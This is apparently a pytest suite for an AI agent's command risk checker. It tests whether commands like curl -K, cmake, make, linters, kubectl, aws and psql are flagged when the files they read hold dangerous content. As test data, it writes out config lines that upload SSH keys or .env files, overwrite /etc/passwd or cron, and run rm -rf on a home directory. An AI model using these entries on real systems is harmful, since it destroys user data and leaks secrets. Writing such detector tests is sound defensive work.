"""Files that commands take options, code or contents from, judged at the bytes on the disk."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from agent.risk import Context, Risk, assess_command

DANGEROUS = "execute_process(COMMAND rm -rf /home/ada/x)\n"
HARMLESS = 'execute_process(COMMAND git describe OUTPUT_VARIABLE v)\nmessage("${v}")\n'


@pytest.fixture
def ground(tmp_path: Path) -> Context:
    project = tmp_path / "home" / "project"
    project.mkdir(parents=True)
    return Context(cwd=project, home=tmp_path / "home", project=project)


def risk(command: str, ground: Context, *written: str) -> Risk:
    paths = frozenset(ground.cwd / name for name in written)
    return assess_command(command, replace(ground, written=paths)).risk


def test_options_of_curl_are_read_from_their_file(ground: Context) -> None:
    file = ground.cwd / "c.cfg"
    file.write_text('url = "https://x.example"\nsilent\n')
    assert risk("curl -K c.cfg", ground) < Risk.HIGH
    assert risk("curl -K c.cfg", ground, "c.cfg") is Risk.HIGH
    for line in ('upload-file = "~/.ssh/id_rsa"', "output=/etc/passwd", "-K /tmp/other", "-T .env"):
        file.write_text(f"url = https://x.example\n{line}\n")
        assert risk("curl -K c.cfg", ground) is Risk.HIGH, line
    file.unlink()
    file.mkdir()
    assert risk("curl -K c.cfg", ground) is Risk.HIGH


def test_curl_finds_its_options_where_variables_say(ground: Context) -> None:
    (ground.cwd / ".curlrc").write_text("silent\n")
    assert risk("CURL_HOME=. curl https://x.example", ground) < Risk.HIGH
    assert risk("CURL_HOME=. curl https://x.example", ground, ".curlrc") is Risk.HIGH
    (ground.cwd / ".curlrc").write_text('output = "/etc/cron.d/x"\n')
    assert risk("CURL_HOME=. curl https://x.example", ground) is Risk.HIGH
    assert risk("CURL_HOME=. curl -q https://x.example", ground) < Risk.HIGH
    assert risk("curl https://x.example", ground) < Risk.HIGH


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("cmake -P x.cmake", "x.cmake"),
        ("cmake -C x.cmake -B build", "x.cmake"),
        ("cmake -D CMAKE_TOOLCHAIN_FILE=x.cmake -B build", "x.cmake"),
        ("cmake -B build", "CMakeLists.txt"),
        ("cmake --build build", "CMakeLists.txt"),
        ("ctest -S x.cmake", "x.cmake"),
    ],
)
def test_cmake_files_are_judged_by_what_they_run(ground: Context, command: str, name: str) -> None:
    file = ground.cwd / name
    file.write_text(HARMLESS)
    assert risk(command, ground) < Risk.HIGH
    assert risk(command, ground, name) < Risk.HIGH
    file.write_text(DANGEROUS)
    assert risk(command, ground, name) is Risk.HIGH
    file.write_text("execute_process(COMMAND ${unknown})\n")
    assert risk(command, ground, name) is Risk.HIGH
    assert risk(command, ground) < Risk.HIGH


def test_recipes_see_the_environment_where_the_makefile_leaves_it_to_it(ground: Context) -> None:
    recipes = "wipe:\n\trm -rf $(OUT)\nclean:\n\trm -rf $(DIR)\nrest:\n\trm -rf $(X)\n"
    recipes = f"OUT ?= out\nDIR = build\n{recipes}"
    (ground.cwd / "Makefile").write_text(recipes)
    for line in ("make wipe", "OUT=dist make wipe", "DIR=/home/ada make clean", "make -C . clean"):
        assert risk(line, ground) < Risk.HIGH, line
    for line in ("OUT=/home/ada make wipe", "DIR=/home/ada make -e clean", "X=/home/ada make rest"):
        assert risk(line, ground) is Risk.HIGH, line


def test_a_cmake_file_is_judged_again_when_it_was_rewritten(ground: Context) -> None:
    (ground.cwd / "x.cmake").write_text(HARMLESS)
    again = f"cmake -P x.cmake; printf '{DANGEROUS.strip()}' > x.cmake; cmake -P x.cmake"
    assert risk(again, ground) is Risk.HIGH


def test_cmake_files_bring_in_others(ground: Context) -> None:
    (ground.cwd / "sub").mkdir()
    (ground.cwd / "CMakeLists.txt").write_text("add_subdirectory(sub)\n")
    (ground.cwd / "sub" / "CMakeLists.txt").write_text("include(../cmake/x.cmake)\n")
    (ground.cwd / "cmake").mkdir()
    (ground.cwd / "cmake" / "x.cmake").write_text(DANGEROUS)
    assert risk("cmake -B build", ground) is Risk.HIGH


def test_what_lies_in_a_directory_is_copied_with_its_hooks(ground: Context) -> None:
    source = ground.cwd / "src"
    (source / "a").mkdir(parents=True)
    (source / "a" / "b.py").touch()
    for command in ("cp -r src/. .", "cp -r src/* .", "cp -r src/. ./"):
        assert risk(command, ground) is Risk.MEDIUM, command
    hooks = source / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "post-commit").touch()
    assert risk("cp -r src/. .", ground) is Risk.HIGH
    assert risk("cp -r src/* .", ground) is Risk.MEDIUM


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("eslint -c ./x.js src", {"x.js": "module.exports = {}"}),
        ("pylint --load-plugins=x app", {"x.py": "import os"}),
        ("mypy .", {"mypy.ini": "[mypy]\nplugins = x.py\n", "x.py": "import os"}),
        ("mypy .", {"pyproject.toml": '[tool.mypy]\nplugins = ["x"]\n', "x.py": "import os"}),
        ("mypy .", {"pyproject.toml": '[tool.mypy]\nplugins = [\n "x",\n]\n', "x.py": ""}),
    ],
)
def test_code_that_linters_load(ground: Context, command: str, files: dict[str, str]) -> None:
    for name, content in files.items():
        (ground.cwd / name).write_text(content)
    assert risk(command, ground) < Risk.HIGH
    assert risk(command, ground, list(files)[-1]) is Risk.HIGH


@pytest.mark.parametrize(
    ("command", "bad", "good"),
    [
        ("KUBECONFIG=f kubectl get pods", "users:\n- user:\n    exec:\n", "clusters: []\n"),
        ("helm --kubeconfig f list", "user: {exec: {command: sh}}\n", "clusters: []\n"),
        ("AWS_CONFIG_FILE=f aws s3 ls", "[a]\ncredential_process = x\n", "[a]\nregion = b\n"),
        ("HGRCPATH=f hg status", "[hooks]\nupdate = x\n", "[ui]\n".replace("ui", "web")),
        ("PSQLRC=f psql", "\\! rm -rf ~/x\n", "\\timing on\n"),
        ("less --lesskey-src=f a", "#env\nLESSOPEN=|x\n", "#command\na forw-line\n"),
        ("gcc @f a.c", "-fplugin=./x.so\n", "-O2 -Wall\n"),
    ],
)
def test_settings_of_the_agent_that_name_programs(
    ground: Context, command: str, bad: str, good: str
) -> None:
    file = ground.cwd / "f"
    file.write_text(bad)
    assert risk(command, ground) < Risk.HIGH
    assert risk(command, ground, "f") is Risk.HIGH
    file.write_text(good)
    assert risk(command, ground, "f") < Risk.HIGH
    file.write_bytes(b"\0")
    assert risk(command, ground, "f") is Risk.HIGH
